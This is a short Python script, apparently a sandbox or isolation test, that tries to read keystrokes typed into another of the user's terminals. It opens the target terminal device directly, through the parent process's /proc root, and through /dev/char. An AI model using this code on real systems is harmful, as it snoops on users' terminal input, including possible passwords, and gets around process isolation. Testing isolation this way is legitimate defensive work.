"""Read what the person types into another of their terminals."""

import os

name = open("terminal").read()
for way in (name, f"/proc/{os.getppid()}/root{name}", f"/dev/char/{open('number').read()}"):
    try:
        fd = os.open(way, os.O_RDONLY | os.O_NOCTTY | os.O_NONBLOCK)
        print(os.read(fd, 100).decode())
    except OSError:
        pass
